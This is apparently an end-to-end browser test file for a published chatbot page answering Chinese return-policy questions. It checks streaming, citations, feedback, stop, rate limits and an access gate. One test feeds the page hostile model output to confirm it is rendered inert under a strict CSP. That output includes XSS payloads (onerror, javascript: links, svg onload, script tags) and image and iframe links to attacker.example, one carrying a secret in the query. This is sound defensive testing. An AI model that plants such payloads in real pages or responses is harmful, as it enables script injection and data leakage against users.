import path from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { startModelServer, type ModelServer } from "../support/model-server";
import { PublicChatPage, watchGrowth } from "./pages/public-chat";
import { startApp, type AppServer } from "./support/app-server";
import { describeBrowser, launchBrowser, screenshotDir } from "./support/browser";
import { knowledgeBaseWith, publishBot } from "./support/publish";

/**
 * The published chat page /c/SLUG in Chromium against the production build: a knowledge-base
 * bot published through the API answers with streamed Markdown and citations, keeps the
 * conversation across a reload, takes feedback and a stop, shows limits in the bot's language,
 * asks for its access code, and renders hostile model output inert (C16).
 */
const POLICY = "退货政策：自签收之日起 7 天内可无理由退货，商品须保持完好并附发票。退款在审核通过后 3 个工作日内原路退回。";

/** What the model says: the hostile answer on request, else a Markdown answer citing [1] that counts the user turns it was given. */
const MALICIOUS = [
  "Here you go: <img src=x onerror=window.__xss=1>",
  "",
  "[x](javascript:window.__xss=1) and [y](JaVaScRiPt:window.__xss=2)",
  "",
  "![a](https://attacker.example/?q=secret)",
  "",
  '<iframe src="https://attacker.example/frame"></iframe>',
  "",
  '<svg onload="window.__xss=3"></svg> <a href="javascript:window.__xss=4">z</a> <script>window.__xss=5</script>',
].join("\n");

function reply(messages: { role: string; content: string }[]): string {
  const last = [...messages].reverse().find((m) => m.role === "user")?.content ?? "";
  const question = last.split(/问题：|Question: /).pop() ?? last;
  if (question.includes("XSS")) return MALICIOUS;
  const turn = messages.filter((m) => m.role === "user").length;
  return `根据资料，**签收后 7 天内**可以退货 [1]。\n\n- 商品须保持完好\n- 请附上发票\n\n（第 ${turn} 轮）`;
}

describeBrowser("C16 the published chat page /c/SLUG", () => {
  let models: ModelServer;
  let app: AppServer;
  let browser: Browser;
  let slug: string;

  beforeAll(async () => {
    models = await startModelServer({ tokenDelayMs: 15, reply });
    app = await startApp({ ollamaBaseUrl: models.url });
    browser = await launchBrowser();
    const kbId = await knowledgeBaseWith(app, "售后知识库", [{ name: "退货政策.txt", text: POLICY }]);
    ({ slug } = await publishBot(app, {
      name: "售后助手",
      kbId,
      settings: { title: "售后助手", language: "zh", greeting: "你好！我可以回答**退货与退款**的问题。", suggestedQuestions: ["多久内可以退货？", "退款多久到账？"] },
    }));
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await app?.stop();
    await models?.close();
  });

  async function phone(): Promise<{ context: BrowserContext; page: Page; violations: () => Promise<string[]> }> {
    const context = await browser.newContext({ locale: "zh-CN", viewport: { width: 375, height: 667 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
    await context.addInitScript(() => {
      const w = window as unknown as { __violations: string[] };
      w.__violations = [];
      document.addEventListener("securitypolicyviolation", (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    });
    const page = await context.newPage();
    return { context, page, violations: () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations) };
  }

  it("C16 streams an answer with citations in Chinese on a phone, opens the quoted passage, and continues the conversation after a reload", async () => {
    // ARRANGE
    const { context, page, violations } = await phone();
    const chat = new PublicChatPage(page);
    const res = await page.goto(`${app.url}/c/${slug}`);
    expect(res?.status()).toBe(200);
    await expect.poll(() => page.getByTestId("greeting").textContent()).toContain("退货与退款");
    expect(await page.getByTestId("suggested-question").allTextContents()).toEqual(["多久内可以退货？", "退款多久到账？"]);
    await page.screenshot({ path: path.join(screenshotDir, "public-chat-zh-phone-welcome.png") });
    const growth = await watchGrowth(page);

    // ACT: a suggested question
    await page.getByTestId("suggested-question").first().click();
    const first = await chat.finishedAnswer();

    // ASSERT: streamed, Markdown rendered, cited
    expect(first.status).toBe("ok");
    expect((await growth()).length).toBeGreaterThan(2);
    expect(await chat.lastAnswer().locator("strong").textContent()).toBe("签收后 7 天内");
    expect(await chat.lastAnswer().locator("li").count()).toBe(2);
    expect(first.text).toContain("（第 1 轮）");
    const chips = chat.lastAnswer().getByTestId("citation");
    expect(await chips.count()).toBeGreaterThan(0);
    expect(await chips.first().textContent()).toContain("退货政策");
    await page.screenshot({ path: path.join(screenshotDir, "public-chat-zh-phone.png") });
    await chips.first().click();
    await expect.poll(() => page.getByTestId("citation-text").textContent()).toContain("7 天内可无理由退货");
    await page.screenshot({ path: path.join(screenshotDir, "public-chat-zh-phone-source.png") });
    await page.getByRole("dialog").getByRole("button").click();

    // ACT: reload, ask again
    await page.reload();
    await expect.poll(() => chat.questions().allTextContents()).toEqual(["多久内可以退货？"]);
    await chat.ask("发票丢了还能退吗？");
    const second = await chat.finishedAnswer();

    // ASSERT: same conversation, the model saw the first turn
    expect(second.text).toContain("（第 2 轮）");
    expect(await chat.questions().allTextContents()).toEqual(["多久内可以退货？", "发票丢了还能退吗？"]);
    await page.getByTestId("open-history").click();
    expect(await page.getByTestId("conversation").count()).toBe(1);
    expect(await violations()).toEqual([]);
    await context.close();
  });

  it("thumbs down with a comment is stored with the answer; a new chat starts empty and the list keeps both", async () => {
    const { context, page } = await phone();
    const chat = new PublicChatPage(page);
    await page.goto(`${app.url}/c/${slug}`);
    await chat.ask("退款多久到账？");
    await chat.finishedAnswer();
    await chat.lastAnswer().getByTestId("thumbs-down").click();
    await page.getByTestId("feedback-comment").fill("希望说明节假日");
    await page.getByTestId("feedback-comment").press("Enter");
    await expect.poll(() => chat.lastAnswer().getByTestId("thumbs-down").getAttribute("aria-pressed")).toBe("true");

    // The end user's own view of the conversation (their token is in this origin's storage).
    const stored = await page.evaluate(async (s) => {
      const token = localStorage.getItem(`trellis:${s}:token`);
      const headers = { Authorization: `Bearer ${token}` };
      const list = await (await fetch(`/api/v1/public/bots/${s}/conversations`, { headers })).json();
      const one = await (await fetch(`/api/v1/public/bots/${s}/conversations/${list.conversations[0].id}`, { headers })).json();
      return one.messages.filter((m: { role: string }) => m.role === "assistant").map((m: { feedback: unknown }) => m.feedback);
    }, slug);
    expect(stored).toEqual([{ rating: "down", comment: "希望说明节假日" }]);

    await page.getByTestId("open-history").click();
    await page.getByTestId("new-chat").click();
    expect(await chat.answers().count()).toBe(0);
    await expect.poll(() => page.getByTestId("suggested-question").count()).toBe(2);
    await context.close();
  });

  it("stop ends the answer where it is and the server stops the model call", async () => {
    const { context, page } = await phone();
    const chat = new PublicChatPage(page);
    await page.goto(`${app.url}/c/${slug}`);
    models.setBehaviour({ slowTokens: 400 });
    const before = models.requests.length;
    try {
      await chat.ask("多久内可以退货？");
      await expect.poll(() => chat.lastAnswer().getByTestId("answer-text").count(), { timeout: 20_000 }).toBe(1);
      await page.getByTestId("stop").click();
      const stopped = await chat.finishedAnswer();
      expect(stopped.status).toBe("stopped");
      expect(stopped.text).toContain("已停止");
      await expect.poll(() => models.requests.slice(before).some((r) => r.path === "/api/chat" && r.closedEarly), { timeout: 10_000 }).toBe(true);
    } finally {
      models.setBehaviour({});
      await context.close();
    }
  });

  it("C16 hostile model output runs no script, loads nothing from attacker.example, and the page sends a strict CSP", async () => {
    // ARRANGE
    const context = await browser.newContext({ locale: "en-US", viewport: { width: 1280, height: 800 } });
    const page = await context.newPage();
    const requests: string[] = [];
    page.on("request", (r) => requests.push(r.url()));
    const chat = new PublicChatPage(page);

    // ACT
    const res = await page.goto(`${app.url}/c/${slug}`);
    await chat.ask("XSS please");
    const answer = await chat.finishedAnswer();
    await page.waitForTimeout(500);

    // ASSERT
    expect(answer.status).toBe("ok");
    expect(answer.text).toContain("<img src=x onerror=window.__xss=1>");
    expect(answer.text).toContain("<iframe");
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(requests.filter((u) => u.includes("attacker.example"))).toEqual([]);
    const inAnswer = chat.lastAnswer();
    expect(await inAnswer.locator("img, iframe, script, object, embed").count()).toBe(0);
    expect(await inAnswer.locator("svg:not(.pc-icon)").count()).toBe(0);
    expect(await page.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0);
    const imageLink = inAnswer.locator("a.md-image-link");
    expect(await imageLink.getAttribute("href")).toBe("https://attacker.example/?q=secret");
    expect(await imageLink.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    const csp = res?.headers()["content-security-policy"] ?? "";
    expect(csp).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'/);
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
    await page.screenshot({ path: path.join(screenshotDir, "public-chat-hostile-output.png") });
    for (const directive of ["img-src 'self';", "connect-src 'self'", "frame-src 'none'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) expect(csp).toContain(directive);
    await context.close();
  });

  it("a message over the bot's limit and a burst over its rate are explained in the bot's language", async () => {
    const limited = await publishBot(app, { name: "限流助手", settings: { title: "限流助手", language: "zh", limits: { maxMessageChars: 30, rpmPerUser: 2 } } });
    const context = await browser.newContext({ locale: "en-US" });
    const page = await context.newPage();
    const chat = new PublicChatPage(page);
    await page.goto(`${app.url}/c/${limited.slug}`);
    await chat.ask("这是一条超过三十个字符的很长很长很长很长很长很长很长很长的消息");
    await chat.finishedAnswer();
    expect(await chat.lastAnswer().getByTestId("chat-error").textContent()).toBe("消息太长了，请缩短后重试。");
    for (let i = 0; i < 3; i++) {
      await chat.ask(`你好 ${i}`);
      await chat.finishedAnswer();
    }
    expect(await chat.lastAnswer().getByTestId("chat-error").textContent()).toMatch(/^发送太频繁了，请( \d+ 秒后| 稍后)再试。$/);
    await context.close();
  });

  it("a bot with an access code asks for it, refuses a wrong one and opens with the right one", async () => {
    const locked = await publishBot(app, { name: "内部助手", settings: { title: "内部助手", language: "en", access: "code" }, accessCode: "open-sesame" });
    const context = await browser.newContext({ locale: "zh-CN" });
    const page = await context.newPage();
    await page.goto(`${app.url}/c/${locked.slug}`);
    const gate = page.getByTestId("access-gate");
    await expect.poll(() => gate.locator("h2").textContent()).toBe("This assistant needs an access code");
    await gate.locator("input").fill("wrong-code");
    await gate.locator("button").click();
    await expect.poll(() => gate.getByRole("alert").textContent()).toBe("That access code is not right.");
    await gate.locator("input").fill("open-sesame");
    await gate.locator("button").click();
    await page.getByTestId("composer").waitFor();
    await page.reload();
    await page.getByTestId("composer").waitFor();
    await context.close();
  });
});
